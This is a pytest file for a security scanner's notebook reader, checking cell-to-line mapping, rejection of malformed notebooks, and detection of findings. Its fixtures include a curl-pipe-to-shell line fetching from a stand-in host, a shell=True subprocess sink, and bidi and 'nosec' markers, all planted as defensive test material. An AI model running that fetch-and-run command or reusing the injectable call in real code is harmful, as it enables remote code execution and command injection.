"""What code a notebook holds, and where."""

from __future__ import annotations

import json
from typing import Any

import pytest
from hypothesis import given
from hypothesis import strategies as st

from outsource_gate.model.finding import Read
from outsource_gate.scanners.classify import classify
from outsource_gate.scanners.notebook import Cells, Other, UnreadableNotebookError, cells_of
from outsource_gate.scanners.run import scan_change
from outsource_gate.scanners.text import text_findings
from tests.scanners.fake import Blobs, added
from tests.scanners.notebooks import cell, notebook


def read(text: str) -> Cells:
    found = cells_of(text)
    assert isinstance(found, Cells)
    return found


def test_every_line_of_code_knows_its_place() -> None:
    """The line of the file for machines, cell and line for people"""
    text = notebook(cell("# Title\n", "markdown"), "x = 1\ny = 2", "!id\nz = 3")
    found = read(text)
    lines = text.split("\n")
    for code, place in zip(found.code.split("\n")[2:], found.places[2:], strict=True):
        assert json.dumps(code)[1:-1] in lines[place.line - 1]
    assert [place.note for place in found.places[2:4]] == ["cell 2, line 1", "cell 2, line 2"]
    assert len(found.python.split("\n")) == len(found.shell.split("\n")) == len(found.places)


def test_a_source_that_is_one_string_has_the_line_of_the_string() -> None:
    text = notebook({"cell_type": "code", "metadata": {}, "outputs": [], "source": "x = 1\ny = 2\n"})
    places = read(text).places[2:4]
    assert [place.line for place in places] == [
        next(n for n, line in enumerate(text.split("\n"), 1) if "x = 1" in line)
    ] * 2


def test_pieces_of_one_line_are_one_line() -> None:
    """Nobody hides a call by cutting it in two"""
    assert "eval(x)" in read(notebook(cell(["ev", "al(x)\n", "y"]))).python


def test_no_cell_declares_the_encoding_and_none_swallows_another() -> None:
    assert read(notebook("# coding: utf-7\nx")).python.split("\n")[:2] == [
        "# The cells of a notebook,",
        "# one below the other.",
    ]
    with pytest.raises(UnreadableNotebookError, match="cell 1"):
        cells_of(notebook("x = '''", "f(x)", "'''"))


@pytest.mark.parametrize(
    "text",
    [
        "", "[]", "{}", "[" * 100_000, '{"cells": {}}', '{"cells": [1]}', '{"cells": [{"cell_type": "odd"}]}',
        '{"cells": [{"cell_type": "code"}]}', '{"cells": [{"cell_type": "code", "source": [1]}]}',
        '{"cells": [{"cell_type": "code", "source": "a", "source": "b"}]}', '{"cells": [], "worksheets": []}',
        notebook("x = 1\rf(x)"), notebook("# a\u2028f(x)"), notebook("# a\x0c!id"),
        notebook(cell("x", metadata={"vscode": {"languageId": "csharp"}})),
    ],
)  # fmt: skip
def test_what_cannot_be_told_is_unread(text: str) -> None:
    """Broken, ambiguous, older or mixed notebooks"""
    with pytest.raises(UnreadableNotebookError):
        cells_of(text)
    assert classify("a.ipynb", text.encode()).read is Read.UNREAD


@pytest.mark.parametrize(
    ("metadata", "language"),
    [
        ({"kernelspec": {"language": "R", "name": "ir"}}, "r"),
        ({"language_info": {"name": "julia"}}, "julia"),
        ({"kernelspec": {"language": "R", "name": "python3"}}, ""),
        ({}, ""),
        (None, ""),
        ({"kernelspec": {"name": "mine"}}, ""),
    ],
)
def test_another_language_is_one_only_by_its_own_word(metadata: Any, language: str) -> None:
    """What does not say clearly that it is something else is read as Python"""
    found = cells_of(notebook("x", metadata=metadata))
    assert found == Other(language) if language else isinstance(found, Cells)


@given(st.text(max_size=60), st.lists(st.text(max_size=20), max_size=3))
def test_no_notebook_upsets_it(text: str, source: list[str]) -> None:
    for one in (text, notebook(cell(source)), notebook(text)):
        assert classify("a.ipynb", one.encode("utf-8", "replace")).read in (Read.SCANNED, Read.UNREAD)


def test_markers_and_turned_text_are_found_in_cells_and_around_them() -> None:
    """Also where JSON spells them as escapes; outputs are looked through as data"""
    escaped = notebook("x = 1  # \u202e", "y = 2  # nosec")
    found = text_findings("a.ipynb", classify("a.ipynb", escaped.encode()))
    assert sorted(one.rule for one in found) == ["text.bidi-control", "text.suppression-marker"]
    assert all("(cell " in one.message for one in found)
    around = notebook(cell("x", "markdown"), "x = 1").replace('"x"', '"\u202e"')
    assert [one.rule for one in text_findings("a.ipynb", classify("a.ipynb", around.encode()))] == [
        "text.bidi-control"
    ]


@pytest.mark.tools
def test_findings_stand_in_the_notebook() -> None:
    """Python's and the shell's, each at its line of the file, with its cell"""
    text = notebook(
        cell("# Prose\n", "markdown"),
        "import subprocess\nimport sys\n",
        "def run():\n    subprocess.call(sys.argv[1], shell=True)\n",
        "!curl -s http://tools.example/install | sh\n",
    )
    blobs = Blobs()
    result = scan_change([added(blobs, "a.ipynb", text)], blobs)
    (row,) = result.coverage
    assert (row.read, set(row.scanners)) == (Read.SCANNED, {"bandit", "semgrep"})
    lines = text.split("\n")
    found = [one for scan in result.scans for one in scan.findings]  # type: ignore[union-attr]
    shown = {(lines[one.location.start_line - 1].strip(' ",'), one.message.rpartition("(")[2]) for one in found}
    assert ("    subprocess.call(sys.argv[1], shell=True)\\n".strip(), "cell 3, line 2)") in shown
    assert any("curl" in line and note == "cell 4, line 1)" for line, note in shown), shown
